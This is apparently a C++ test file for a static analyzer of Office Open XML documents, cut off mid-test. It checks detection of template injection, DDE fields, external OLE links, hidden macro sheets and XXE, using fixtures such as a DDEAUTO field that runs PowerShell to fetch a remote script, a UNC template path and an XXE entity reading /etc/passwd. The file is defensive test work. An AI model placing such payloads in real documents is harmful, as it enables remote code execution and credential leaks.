// Office Open XML documents: relationships (template injection, external OLE links), DDE
// fields, embedded parts and ActiveX as children, VBA in vbaProject.bin, Excel 4.0 macro sheets
// and hidden sheets, properties, and the signatures of rules/signatures/ooxml.yaml. Fixtures are
// zipped at test time by python3's zipfile; real documents come from ../shared/corpora
// (oletools' test data with msodde/oleobj expectations, plaso's Document.docx, and InQuest's
// malicious documents, read from their password-protected zips in memory and never run).
#include <algorithm>
#include <catch2/catch.hpp>
#include <chrono>
#include <filesystem>

#include "../../archive/tests/archive_test_support.h"
#include "kensa/core/file.h"
#include "kensa/hashing/hashes.h"
#include "kensa/static_analysis/ooxml_analyzer.h"
#include "kensa/static_analysis/static_analyzer.h"

namespace kensa::static_analysis {
namespace {

using analysis::v1::StaticResult;
using archive::testing::Sha256;
using archive::testing::Workspace;

const std::string kOletools = "../shared/corpora/oletools-tests/tests/test-data/";
const std::string kInquest = "../shared/corpora/inquest-docs/";

const StaticAnalyzer& Analyzer() {
  static const std::unique_ptr<StaticAnalyzer> analyzer = [] {
    std::vector<std::string> warnings;
    auto created = StaticAnalyzer::Create(StaticConfig{}, &warnings);
    REQUIRE(created.has_value());
    return std::move(*created);
  }();
  return *analyzer;
}

Bytes ReadCorpus(const std::string& path) {
  INFO(path);
  auto data = ReadFileBounded(path, 64u << 20);
  REQUIRE(data.has_value());
  return std::move(*data);
}

// One member of an InQuest campaign zip (password "infected"), decrypted in memory.
Bytes InquestMember(const std::string& zip, const std::string& member_suffix) {
  const Bytes archive_bytes = ReadCorpus(kInquest + zip);
  auto listing = archive::ReadArchive(archive_bytes, {"infected"});
  REQUIRE(listing.has_value());
  for (auto& member : listing->members) {
    if (member.name.ends_with(member_suffix) && member.extracted) return std::move(member.data);
  }
  FAIL("no member " << member_suffix << " in " << zip);
  return {};
}

// Zips (part name, content) pairs in order with python3's zipfile, as Office would (deflate).
Bytes MakePackage(const std::vector<std::pair<std::string, std::string>>& parts) {
  Workspace workspace;
  std::string listing;
  for (const auto& [name, content] : parts) {
    workspace.Write("parts/" + name, content);
    listing += name + "\n";
  }
  workspace.Write("parts.txt", listing);
  workspace.Write("pack.py",
                  "import sys, zipfile\n"
                  "with zipfile.ZipFile('package.zip', 'w', zipfile.ZIP_DEFLATED) as z:\n"
                  "    for name in open('parts.txt', encoding='utf-8').read().splitlines():\n"
                  "        z.write('parts/' + name, name)\n");
  workspace.Run("python3 pack.py");
  return workspace.Read("package.zip");
}

const char* const kWordContentTypes = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/><Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/><Override PartName="/word/activeX/activeX1.bin" ContentType="application/vnd.ms-office.activeX"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>)xml";

const char* const kPackageRels = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>)xml";

const char* const kDocumentRels = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/></Relationships>)xml";

const char* const kEmptyDocument = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>)xml";

const char* const kSettings = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>)xml";

const char* const kCore = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:creator>山田太郎</dc:creator><cp:lastModifiedBy>admin</cp:lastModifiedBy><dcterms:created xsi:type="dcterms:W3CDTF">2024-01-15T09:30:00Z</dcterms:created></cp:coreProperties>)xml";

std::string TemplateRels(const std::string& target) {
  return R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target=")xml" +
         target + R"xml(" TargetMode="External"/></Relationships>)xml";
}

// A .docx whose settings attach the template at `target` (External), and `document` as body.
Bytes MakeDocx(const std::string& template_target, const std::string& document = kEmptyDocument) {
  return MakePackage({{"[Content_Types].xml", kWordContentTypes},
                      {"_rels/.rels", kPackageRels},
                      {"word/document.xml", document},
                      {"word/_rels/document.xml.rels", kDocumentRels},
                      {"word/settings.xml", kSettings},
                      {"word/_rels/settings.xml.rels", TemplateRels(template_target)},
                      {"docProps/core.xml", kCore}});
}

OoxmlAnalysis Analyze(ByteSpan data, std::string_view name, const OoxmlLimits& limits = {}) {
  auto analysis = AnalyzeOoxml(data, name, limits);
  INFO((analysis ? std::string() : analysis.error().message()));
  REQUIRE(analysis.has_value());
  return std::move(*analysis);
}

std::vector<std::string> Details(const std::vector<analysis::v1::Anomaly>& anomalies,
                                 const std::string& code) {
  std::vector<std::string> details;
  for (const auto& anomaly : anomalies) {
    if (anomaly.code() == code) details.push_back(anomaly.detail());
  }
  return details;
}

std::vector<std::string> Codes(const std::vector<analysis::v1::Anomaly>& anomalies) {
  std::vector<std::string> codes;
  for (const auto& anomaly : anomalies) codes.push_back(anomaly.code());
  std::sort(codes.begin(), codes.end());
  codes.erase(std::unique(codes.begin(), codes.end()), codes.end());
  return codes;
}

const analysis::v1::Signature* FindSignature(const StaticResult& result, const std::string& name) {
  for (const auto& signature : result.signatures()) {
    if (signature.name() == name) return &signature;
  }
  return nullptr;
}

bool HasIndicator(const StaticResult& result, const std::string& value) {
  return std::any_of(result.indicators().begin(), result.indicators().end(),
                     [&](const auto& indicator) { return indicator.value() == value; });
}

std::vector<std::string> DdeCodes(const analysis::v1::OoxmlInfo& info) {
  std::vector<std::string> codes;
  for (const auto& link : info.dde_links()) codes.push_back(link.field_code());
  return codes;
}

// ---------------------------------------------------------------------------------------------
// Fixtures made here.

TEST_CASE(
    "A remote attachedTemplate is template injection: the URL is the evidence and an indicator") {
  const Bytes docx = MakeDocx("https://office-templates.xyz/download/invoice.dotm");
  const OoxmlAnalysis analysis = Analyze(docx, "invoice.docx");
  CHECK(analysis.info.document_kind() == "word");
  CHECK(analysis.info.main_part() == "word/document.xml");
  CHECK_FALSE(analysis.info.macro_enabled());
  REQUIRE(analysis.info.external_relationships_size() == 1);
  const auto& relationship = analysis.info.external_relationships(0);
  CHECK(relationship.rels_part() == "word/_rels/settings.xml.rels");
  CHECK(relationship.type() == "attachedTemplate");
  CHECK(relationship.target() == "https://office-templates.xyz/download/invoice.dotm");
  CHECK(relationship.target_kind() == "http");
  CHECK(Details(analysis.anomalies, "ooxml_remote_template") ==
        std::vector<std::string>{"https://office-templates.xyz/download/invoice.dotm "
                                 "(attachedTemplate in word/_rels/settings.xml.rels)"});
  CHECK(analysis.info.properties().creator() == "山田太郎");
  CHECK(analysis.info.properties().last_modified_by() == "admin");
  CHECK(analysis.info.properties().created() == "2024-01-15T09:30:00Z");

  std::vector<ExtractedChild> children;
  auto result = Analyzer().Analyze(docx, "invoice.docx", AnalyzeOptions{}, &children);
  REQUIRE(result.has_value());
  CHECK(result->sample().file_type().format() == "ooxml");
  CHECK(result->ooxml().external_relationships_size() == 1);
  const auto* signature = FindSignature(*result, "ooxml_remote_template");
  REQUIRE(signature != nullptr);
  CHECK(signature->severity() == analysis::v1::SEVERITY_HIGH);
  REQUIRE(signature->evidence_size() == 1);
  CHECK(signature->evidence(0).value().starts_with(
      "https://office-templates.xyz/download/invoice.dotm"));
  CHECK(HasIndicator(*result, "https://office-templates.xyz/download/invoice.dotm"));
  CHECK(children.empty());
}

TEST_CASE("A UNC template is template injection and an NTLM leak; a local one is neither") {
  const OoxmlAnalysis unc = Analyze(MakeDocx("file:///\\\\198.51.100.20\\share\\t.dotx"), "a.docx");
  CHECK(unc.info.external_relationships(0).target_kind() == "unc");
  CHECK(Details(unc.anomalies, "ooxml_remote_template").size() == 1);
  CHECK(Details(unc.anomalies, "ooxml_unc_target").size() == 1);

  const OoxmlAnalysis local = Analyze(
      MakeDocx("file:///C:\\Users\\taro\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"),
      "a.docx");
  CHECK(local.info.external_relationships(0).target_kind() == "local_file");
  CHECK(Codes(local.anomalies).empty());
}

TEST_CASE("A DDEAUTO field split over runs is reassembled and its command decoded") {
  // "DD" + "EAUTO" + " " + the arguments, in four runs, then the field result; a second field
  // (PAGE) and a simple field with a DDE code, under a prefix other than "w".
  const std::string document = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<x:document xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:body><x:p>
<x:r><x:fldChar x:fldCharType="begin"/></x:r>
<x:r><x:instrText>DD</x:instrText></x:r>
<x:r><x:instrText>EAUTO</x:instrText></x:r>
<x:r><x:instrText xml:space="preserve"> </x:instrText></x:r>
<x:r><x:instrText>c:\\windows\\system32\\cmd.exe "/k powershell -c iwr http://dde-update.xyz/a.ps1"</x:instrText></x:r>
<x:r><x:fldChar x:fldCharType="separate"/></x:r>
<x:r><x:t>Loading...</x:t></x:r>
<x:r><x:fldChar x:fldCharType="end"/></x:r>
<x:r><x:fldChar x:fldCharType="begin"/></x:r><x:r><x:instrText> PAGE </x:instrText></x:r><x:r><x:fldChar x:fldCharType="end"/></x:r>
<x:fldSimple x:instr=" DDE cmd &quot;/c calc.exe&quot; "/>
</x:p></x:body></x:document>)xml";
  const Bytes docx = MakeDocx("Normal.dotm", document);
  const OoxmlAnalysis analysis = Analyze(docx, "dde.docx");
  REQUIRE(analysis.info.dde_links_size() == 2);
  const auto& split = analysis.info.dde_links(0);
  CHECK(split.part() == "word/document.xml");
  CHECK(
      split.field_code() ==
      R"(DDEAUTO c:\\windows\\system32\\cmd.exe "/k powershell -c iwr http://dde-update.xyz/a.ps1")");
  CHECK(split.command() ==
        R"(c:\windows\system32\cmd.exe "/k powershell -c iwr http://dde-update.xyz/a.ps1")");
  CHECK(split.automatic());
  CHECK(analysis.info.dde_links(1).field_code() == R"(DDE cmd "/c calc.exe")");
  CHECK_FALSE(analysis.info.dde_links(1).automatic());
  CHECK(Details(analysis.anomalies, "ooxml_dde_field").size() == 2);

  auto result = Analyzer().Analyze(docx, "dde.docx");
  REQUIRE(result.has_value());
  const auto* signature = FindSignature(*result, "ooxml_dde");
  REQUIRE(signature != nullptr);
  CHECK(
      signature->evidence(0).value() ==
      R"(word/document.xml: DDEAUTO c:\\windows\\system32\\cmd.exe "/k powershell -c iwr http://dde-update.xyz/a.ps1")");
  CHECK(HasIndicator(*result, "http://dde-update.xyz/a.ps1"));
}

TEST_CASE("Embedded OLE objects and ActiveX binaries become children with their origin") {
  const std::string ole_object = std::string("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8) + "payload";
  const std::string activex_binary = "activex control state";
  const std::string document_rels = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="activeX/activeX1.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://203.0.113.5/page.html!" TargetMode="External"/></Relationships>)xml";
  const std::string activex = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<ax:ocx ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}" ax:persistence="persistStreamInit" r:id="rId1" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>)xml";
  const std::string activex_rels = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="activeX1.bin"/></Relationships>)xml";
  const Bytes docx = MakePackage({{"[Content_Types].xml", kWordContentTypes},
                                  {"_rels/.rels", kPackageRels},
                                  {"word/document.xml", kEmptyDocument},
                                  {"word/_rels/document.xml.rels", document_rels},
                                  {"word/embeddings/oleObject1.bin", ole_object},
                                  {"word/activeX/activeX1.xml", activex},
                                  {"word/activeX/_rels/activeX1.xml.rels", activex_rels},
                                  {"word/activeX/activeX1.bin", activex_binary}});
  const OoxmlAnalysis analysis = Analyze(docx, "objects.docx");
  REQUIRE(analysis.info.embedded_parts_size() == 2);
  CHECK(analysis.info.embedded_parts(0).part() == "word/embeddings/oleObject1.bin");
  CHECK(analysis.info.embedded_parts(0).kind() == "ole_object");
  CHECK(analysis.info.embedded_parts(0).content_type() ==
        "application/vnd.openxmlformats-officedocument.oleObject");
  CHECK(analysis.info.embedded_parts(1).part() == "word/activeX/activeX1.bin");
  CHECK(analysis.info.embedded_parts(1).kind() == "activex_binary");
  REQUIRE(analysis.info.activex_controls_size() == 1);
  const auto& control = analysis.info.activex_controls(0);
  CHECK(control.clsid() == "{D27CDB6E-AE6D-11CF-96B8-444553540000}");
  CHECK(control.clsid_name() == "Shockwave Flash Object (CVE-2018-4878, CVE-2018-15982)");
  CHECK(control.binary_part() == "word/activeX/activeX1.bin");
  CHECK(Details(analysis.anomalies, "ooxml_external_ole_object") ==
        std::vector<std::string>{
            "http://203.0.113.5/page.html! (oleObject in word/_rels/document.xml.rels)"});

  std::vector<ExtractedChild> children;
  auto result = Analyzer().Analyze(docx, "objects.docx", AnalyzeOptions{}, &children);
  REQUIRE(result.has_value());
  REQUIRE(children.size() == 2);
  CHECK(children[0].info.name() == "word/embeddings/oleObject1.bin");
  CHECK(children[0].info.origin() == "ooxml embedding");
  CHECK(children[0].info.sha256() == Sha256(ole_object));
  CHECK(archive::testing::Text(children[0].data) == ole_object);
  CHECK(children[1].info.origin() == "ooxml activex");
  CHECK(children[1].info.size() == activex_binary.size());
  REQUIRE(result->extracted_files_size() == 2);
  CHECK(result->extracted_files(1).name() == "word/activeX/activeX1.bin");
  for (const char* name : {"ooxml_embedded_ole_object", "ooxml_activex_control",
                           "ooxml_activex_exploit_clsid", "ooxml_external_ole_object"}) {
    INFO(name);
    CHECK(FindSignature(*result, name) != nullptr);
  }
}

TEST_CASE("A macro-enabled package named .docx is a mismatch; the same as .docm is not") {
  std::string content_types = kWordContentTypes;
  const std::string docx_type =
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
  content_types.replace(content_types.find(docx_type), docx_type.size(),
                        "application/vnd.ms-word.document.macroEnabled.main+xml");
  const Bytes docm = MakePackage({{"[Content_Types].xml", content_types},
                                  {"_rels/.rels", kPackageRels},
                                  {"word/document.xml", kEmptyDocument}});
  const OoxmlAnalysis named_docx = Analyze(docm, "report.docx");
  CHECK(named_docx.info.macro_enabled());
  CHECK(named_docx.info.main_content_type() ==
        "application/vnd.ms-word.document.macroEnabled.main+xml");
  CHECK(
      Details(named_docx.anomalies, "ooxml_macro_extension_mismatch") ==
      std::vector<std::string>{
          "report.docx: main content type application/vnd.ms-word.document.macroEnabled.main+xml"});
  CHECK(Details(Analyze(docm, "report.docm").anomalies, "ooxml_macro_extension_mismatch").empty());
}

TEST_CASE(
    "Billion laughs and XXE in a part are not expanded: a DOCTYPE finding, literal entities") {
  const std::string rels = R"xml(<?xml version="1.0"?>
<!DOCTYPE Relationships [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
 <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="&lol9;" TargetMode="External"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="&xxe;" TargetMode="External"/></Relationships>)xml";
  const Bytes docx = MakePackage({{"[Content_Types].xml", kWordContentTypes},
                                  {"_rels/.rels", kPackageRels},
                                  {"word/document.xml", kEmptyDocument},
                                  {"word/_rels/document.xml.rels", rels}});
  const auto started = std::chrono::steady_clock::now();
  const OoxmlAnalysis analysis = Analyze(docx, "laughs.docx");
  CHECK(std::chrono::steady_clock::now() - started < std::chrono::seconds(2));
  REQUIRE(analysis.info.external_relationships_size() == 2);
  CHECK(analysis.info.external_relationships(0).target() == "&lol9;");
  CHECK(analysis.info.external_relationships(1).target() == "&xxe;");
  const auto doctype = Details(analysis.anomalies, "ooxml_xml_doctype");
  REQUIRE(doctype.size() == 1);
  CHECK(doctype[0].starts_with("word/_rels/document.xml.rels: <!DOCTYPE"));
}

TEST_CASE("A part of a million empty elements ends at the XML memory budget, not in the heap") {
  std::string document =
      "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">";
  for (int i = 0; i < 1000000; ++i) document += "<a/>";
  document += "</w:document>";
  OoxmlLimits limits;
  limits.max_xml_memory = 8u << 20;
  const OoxmlAnalysis analysis = Analyze(MakeDocx("Normal.dotm", document), "flood.docx", limits);
  const auto malformed = Details(analysis.anomalies, "ooxml_xml_malformed");
  REQUIRE(malformed.size() == 1);
  CHECK(malformed[0].starts_with("word/document.xml: Could not allocate memory"));
  // The other parts are still read.
  CHECK(analysis.info.properties().creator() == "山田太郎");
}

TEST_CASE("Deeply nested Word XML is walked without recursion") {
  std::string document =
      "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">";
  constexpr int kDepth = 200000;
  for (int i = 0; i < kDepth; ++i) document += "<w:p>";
  document += "<w:fldSimple w:instr=\"DDEAUTO cmd /c calc\"/>";
  for (int i = 0; i < kDepth; ++i) document += "</w:p>";
  document += "</w:document>";
  const OoxmlAnalysis analysis = Analyze(MakeDocx("Normal.dotm", document), "deep.docx");
  REQUIRE(analysis.info.dde_links_size() == 1);
  CHECK(analysis.info.dde_links(0).command() == "cmd /c calc");
}

TEST_CASE("A workbook's hidden and very hidden sheets and its Auto_Open names are reported") {
  const std::string content_types = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/worksheets/sheet2.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>)xml";
  const std::string package_rels = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>)xml";
  const std::string workbook_rels = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="/xl/worksheets/sheet2.xml"/><Relationship Id="rId3" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>)xml";
  const std::string workbook = R"xml(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="請求書" sheetId="1" r:id="rId1"/><sheet name="data" sheetId="2" state="hidden" r:id="rId2"/><sheet name="x1" sheetId="3" state="veryHidden" r:id="rId3"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">x1!$A$1</definedName><definedName name="Auto_Open21" hidden="1">x1!$B$7</definedName><definedName name="Print_Area">data!$A$1:$C$9</definedName></definedNames></workbook>)xml";
  const std::string sheet =
      R"xml(<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>)xml";
  const Bytes xlsx = MakePackage({{"[Content_Types].xml", content_types},
                                  {"_rels/.rels", package_rels},
                                  {"xl/workbook.xml", workbook},
                                  {"xl/_rels/workbook.xml.rels", workbook_rels},
                                  {"xl/worksheets/sheet1.xml", sheet},
                                  {"xl/worksheets/sheet2.xml", sheet},
                                  {"xl/macrosheets/sheet1.xml", sheet}});
  const OoxmlAnalysis analysis = Analyze(xlsx, "book.xlsx");
  CHECK(analysis.info.document_kind() == "excel");
  REQUIRE(analysis.info.sheets_size() == 3);
  CHECK(analysis.info.sheets(0).name() == "請求書");
  CHECK(analysis.info.sheets(0).state() == "visible");
  CHECK(analysis.info.sheets(0).kind() == "worksheet");
  CHECK(analysis.info.sheets(1).part() == "xl/worksheets/sheet2.xml");
  CHECK(analysis.info.sheets(2).kind() == "macrosheet");
  CHECK(analysis.info.sheets(2).part() == "xl/macrosheets/sheet1.xml");
  CHECK(Details(analysis.anomalies, "ooxml_hidden_sheet") ==
        std::vector<std::string>{"data (worksheet)"});
  CHECK(Details(analysis.anomalies, "ooxml_very_hidden_sheet") ==
        std::vector<std::string>{"x1 (macrosheet)"});
  CHECK(Details(analysis.anomalies, "ooxml_excel4_macro_sheet") ==
        std::vector<std::string>{"xl/macrosheets/sheet1.xml (x1, veryHidden)"});
  CHECK(Details(analysis.anomalies, "ooxml_excel4_auto_run_name") ==
        std::vector<std::string>{"_xlnm.Auto_Open = x1!$A$1", "Auto_Open21 = x1!$B$7"});
}

TEST_CASE("A workbook of 100,000 hidden sheets is read in bounded time and reported in bounds") {
  std::string workbook =
      R"xml(<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>)xml";
  std::string rels =
      R"xml(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)xml";
  for (int i = 0; i < 100000; ++i) {
    const std::string id = "rId" + std::to_string(i % 10000);
    workbook += "<sheet name=\"s" + std::to_string(i) +
                "\" sheetId=\"1\" state=\"hidden\" r:id=\"" + id + "\"/>";
    if (i < 10000) {
      rels +=
          "<Relationship Id=\"" + id +
          "\" "
          "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" "
          "Target=\"worksheets/sheet1.xml\"/>";
    }
  }
  workbook += "</sheets></workbook>";
  rels += "</Relationships>";
  const std::string package_rels =
      R"xml(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>)xml";
  const Bytes xlsx = MakePackage(
      {{"[Content_Types].xml",
        R"xml(<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>)xml"},
       {"_rels/.rels", package_rels},
       {"xl/workbook.xml", workbook},
       {"xl/_rels/workbook.xml.rels", rels}});
  const auto started = std::chrono::steady_clock::now();
  const OoxmlAnalysis analysis = Analyze(xlsx, "sheets.xlsx");
  CHECK(std::chrono::steady_clock::now() - started < std::chrono::seconds(10));
  CHECK(analysis.info.relationship_count() == 10001);
  CHECK(analysis.info.sheets_size() == 200);
  CHECK(analysis.info.sheets(199).kind() == "worksheet");
  CHECK(Details(analysis.anomalies, "ooxml_hidden_sheet").size() == 20);
}

TEST_CASE("Bytes that are no zip are an error, not a crash") {
  const std::string text = "not a zip at all";
  CHECK_FALSE(AnalyzeOoxml(archive::testing::AsBytes(text), "x.docx").has_value());
}

// ---------------------------------------------------------------------------------------------
// oletools' test documents (tests/msodde, tests/oleobj, tests/olevba beside the data).

TEST_CASE("msodde dde-test.docx and .docm: the DDE fields msodde lists") {
  for (const char* name : {"msodde/dde-test.docx", "msodde/dde-test.docm"}) {
    INFO(name);
    const OoxmlAnalysis analysis = Analyze(ReadCorpus(kOletools + name), name);
    // msodde prints these three DDE field codes (and a MACROBUTTON field, which is no DDE).
    CHECK(DdeCodes(analysis.info) ==
          std::vector<std::string>{R"(DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe")",
                                   R"(DDE c:\\windows\\system32\\cmd.exe "/k calc.exe")",
                                   "ddeauto ünicöde-test"});
    CHECK(analysis.info.dde_links(0).command() == R"(c:\windows\system32\cmd.exe "/k calc.exe")");
  }
  const OoxmlAnalysis clean =
      Analyze(ReadCorpus(kOletools + "msodde/harmless-clean.docx"), "harmless-clean.docx");
  CHECK(clean.info.dde_links_size() == 0);
  CHECK(Codes(clean.anomalies).empty());
}

TEST_CASE("msodde dde-test.xlsx, .xlsm and .xlsb: the DDE link is 'cmd /c calc.exe'") {
  for (const char* extension : {"xlsx", "xlsm", "xlsb"}) {
    INFO(extension);
    const std::string name = std::string("msodde/dde-test.") + extension;
    const OoxmlAnalysis analysis = Analyze(ReadCorpus(kOletools + name), name);
    CHECK(analysis.info.document_kind() == "excel");
    CHECK(DdeCodes(analysis.info) == std::vector<std::string>{"cmd /c calc.exe"});
    CHECK(analysis.info.dde_links(0).part() ==
          std::string("xl/externalLinks/externalLink1.") +
              (extension == std::string("xlsb") ? "bin" : "xml"));
  }
}

TEST_CASE("oleobj embedded-simple-2007: the OLE object part is a child in every OOXML flavour") {
  for (const char* extension : {"docx", "docm", "dotm", "xlsx", "xlsm", "xlsb", "pptx", "pptm"}) {
    INFO(extension);
    const std::string name = std::string("embedded-simple-2007.") + extension;
    std::vector<ExtractedChild> children;
    auto result = Analyzer().Analyze(ReadCorpus(kOletools + "oleobj/" + name), name,
                                     AnalyzeOptions{}, &children);
    REQUIRE(result.has_value());
    CHECK(result->sample().file_type().format() == "ooxml");
    const auto ole = std::find_if(children.begin(), children.end(), [](const auto& child) {
      return child.info.name().find("/embeddings/oleObject") != std::string::npos;
    });
    REQUIRE(ole != children.end());
    CHECK(ole->info.origin() == "ooxml embedding");
    CHECK(ole->data.size() == ole->info.size());
    // The object is a compound file (its Ole10Native stream holds simple-text-file.txt).
    CHECK(HasBytesAt(ole->data, 0, "\xD0\xCF\x11\xE0"));
    CHECK(FindSignature(*result, "ooxml_embedded_ole_object") != nullptr);
  }
  const OoxmlAnalysis docx = Analyze(ReadCorpus(kOletools + "oleobj/embedded-simple-2007.docx"),
                                     "embedded-simple-2007.docx");
  REQUIRE(docx.info.embedded_parts_size() == 1);
  CHECK(docx.info.embedded_parts(0).part() == "word/embeddings/oleObject1.bin");
  CHECK(docx.info.embedded_parts(0).size() == 8704);
}

TEST_CASE(
    "oleobj external_link samples: every one links an OLE object from raw.githubusercontent.com") {
  // Word links msodde/harmless-clean.doc, Excel and PowerPoint oleobj/embedded-simple-2007.doc.
  const std::string base =
      "https://raw.githubusercontent.com/decalage2/oletools/master/tests/test-data/";
  std::size_t files = 0;
  for (const auto& entry :
